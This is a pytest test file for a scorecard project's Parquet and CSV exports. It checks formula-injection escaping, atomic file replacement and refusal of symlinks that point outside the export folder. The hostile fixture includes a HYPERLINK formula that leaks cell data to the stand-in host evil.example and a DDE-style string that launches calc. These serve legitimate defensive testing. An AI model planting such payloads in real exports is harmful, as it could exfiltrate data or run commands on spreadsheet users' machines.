"""Exports: every mart as Parquet and as a spreadsheet-safe CSV, read back by pandas from the project's
own environment, and hostile text that never runs as a formula."""

from __future__ import annotations

import codecs
import csv
import os
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from scorecard.publish.exports import export_marts
from scorecard.publish.safe_output import OutputPathError, starts_like_formula
from scorecard.warehouse.connect import connect

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+44 20 7946 0000",
    "\t=1",
    "\r=1",
    "\r\n=1",
    "a = b",  # a formula character later on is harmless
    " =1",
    "Harbourside College",
]


@pytest.fixture
def hostile_warehouse(tmp_path) -> Path:
    warehouse = tmp_path / "scorecard.duckdb"
    with connect(warehouse) as con:
        con.execute("CREATE SCHEMA marts")
        con.execute("CREATE TABLE marts.providers (provider_name VARCHAR, change DOUBLE, rank INTEGER, surveyed DATE)")
        con.executemany(
            "INSERT INTO marts.providers VALUES (?, ?, ?, DATE '2024-03-01' + ?)",
            [(name, -2.5 - row, -row, row) for row, name in enumerate(HOSTILE_NAMES)],
        )
        con.execute("INSERT INTO marts.providers VALUES (NULL, NULL, NULL, NULL)")
        con.execute("CREATE VIEW marts.negative_changes AS SELECT provider_name, change FROM marts.providers WHERE change < 0")
    return warehouse


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_text_starting_like_a_formula_is_prefixed_and_numbers_stay_numbers(hostile_warehouse, tmp_path):
    exports = tmp_path / "exports"
    written = export_marts(hostile_warehouse, exports, ["csv"])
    assert [path.name for path in written] == ["negative_changes.csv", "providers.csv"]  # the view too
    rows = csv_rows(exports / "providers.csv")
    assert [row["provider_name"] for row in rows] == [*(("'" + name) if starts_like_formula(name) else name for name in HOSTILE_NAMES), ""]
    prefixed = [row["provider_name"] for row in rows if row["provider_name"].startswith("'")]
    assert prefixed == ["'" + name for name in HOSTILE_NAMES[:7]]  # =, @, -, +, tab, CR, CR LF; not "a = b", " =1" or a name
    assert [row["change"] for row in rows[:3]] == ["-2.5", "-3.5", "-4.5"]
    assert [row["rank"] for row in rows[:3]] == ["0", "-1", "-2"]
    assert rows[1]["surveyed"] == "2024-03-02"  # ISO
    frame = pd.read_csv(exports / "providers.csv", encoding="utf-8-sig")
    assert pd.api.types.is_numeric_dtype(frame["change"]) and pd.api.types.is_numeric_dtype(frame["rank"])
    assert frame["change"].min() == -2.5 - (len(HOSTILE_NAMES) - 1)


def test_csv_starts_with_the_byte_order_mark_and_a_header(hostile_warehouse, tmp_path):
    export_marts(hostile_warehouse, tmp_path, ["csv"])
    raw = (tmp_path / "providers.csv").read_bytes()
    assert raw.startswith(codecs.BOM_UTF8 + b"provider_name,change,rank,surveyed\n")
    assert raw.count(codecs.BOM_UTF8) == 1


def test_files_are_replaced_whole_and_no_partial_file_is_left(hostile_warehouse, tmp_path):
    exports = tmp_path / "exports"
    export_marts(hostile_warehouse, exports)
    with connect(hostile_warehouse) as con:
        con.execute("DELETE FROM marts.providers WHERE provider_name IS NULL")
    written = export_marts(hostile_warehouse, exports)
    assert (
        sorted(path.name for path in exports.iterdir())
        == sorted(path.name for path in written)
        == [
            "negative_changes.csv",
            "negative_changes.parquet",
            "providers.csv",
            "providers.parquet",
        ]
    )
    assert len(csv_rows(exports / "providers.csv")) == len(HOSTILE_NAMES)
    assert len(pd.read_parquet(exports / "providers.parquet")) == len(HOSTILE_NAMES)


def test_a_partial_file_linked_out_of_the_folder_is_refused(hostile_warehouse, tmp_path):
    exports, outside = tmp_path / "exports", tmp_path / "precious.txt"
    exports.mkdir()
    outside.write_text("keep me")
    (exports / f".negative_changes.csv.{os.getpid()}.partial").symlink_to(outside)
    with pytest.raises(OutputPathError, match="outside the folder"):
        export_marts(hostile_warehouse, exports, ["csv"])
    assert outside.read_text() == "keep me"


# ---- the demo warehouse ---------------------------------------------------------------------------


def mart_rows(warehouse: Path) -> dict[str, int]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        marts = [
            name for (name,) in con.execute("SELECT table_name FROM information_schema.tables WHERE table_schema = 'marts'").fetchall()
        ]
        return {mart: con.execute(f'SELECT count(*) FROM marts."{mart}"').fetchone()[0] for mart in marts}


def test_the_nightly_run_writes_every_mart_as_parquet_and_csv_that_pandas_reads(demo_warehouse):
    exports = demo_warehouse.parent / "exports"
    rows = mart_rows(demo_warehouse)
    assert len(rows) >= 16 and sum(rows.values()) > 0
    for mart, count in rows.items():
        assert len(pd.read_parquet(exports / f"{mart}.parquet")) == count, mart
        assert (exports / f"{mart}.csv").read_bytes().startswith(codecs.BOM_UTF8), mart
        assert len(pd.read_csv(exports / f"{mart}.csv", encoding="utf-8-sig", keep_default_na=False)) == count, mart
    assert sorted(path.name for path in exports.iterdir() if path.suffix in (".csv", ".parquet")) == sorted(
        f"{mart}.{suffix}" for mart in rows for suffix in ("csv", "parquet")
    )


def test_parquet_exports_hold_the_marts_row_for_row(demo_warehouse):
    exports = demo_warehouse.parent / "exports"
    with duckdb.connect(str(demo_warehouse), read_only=True) as con:
        for mart in mart_rows(demo_warehouse):
            parquet = f"read_parquet('{exports / mart}.parquet')"
            for left, right in ((f"marts.{mart}", parquet), (parquet, f"marts.{mart}")):
                difference = con.execute(f"SELECT count(*) FROM (SELECT * FROM {left} EXCEPT ALL SELECT * FROM {right})").fetchone()
                assert difference == (0,), mart


def test_csv_exports_hold_the_marts_text_as_written_unless_it_starts_like_a_formula(demo_warehouse):
    exports = demo_warehouse.parent / "exports"
    with duckdb.connect(str(demo_warehouse), read_only=True) as con:
        for mart in ("scorecard_totals", "indicator_scores", "provider_benchmarks"):
            text_columns = [name for name, column_type, *_ in con.execute(f"DESCRIBE marts.{mart}").fetchall() if column_type == "VARCHAR"]
            cursor = con.execute(f"SELECT * FROM marts.{mart}")
            columns = [column[0] for column in cursor.description]
            table = [dict(zip(columns, row, strict=True)) for row in cursor.fetchall()]
            written = csv_rows(exports / f"{mart}.csv")
            assert text_columns and len(written) == len(table), mart
            for column in text_columns:
                expected = ["" if row[column] is None else ("'" if starts_like_formula(row[column]) else "") + row[column] for row in table]
                assert [row[column] for row in written] == expected, (mart, column)
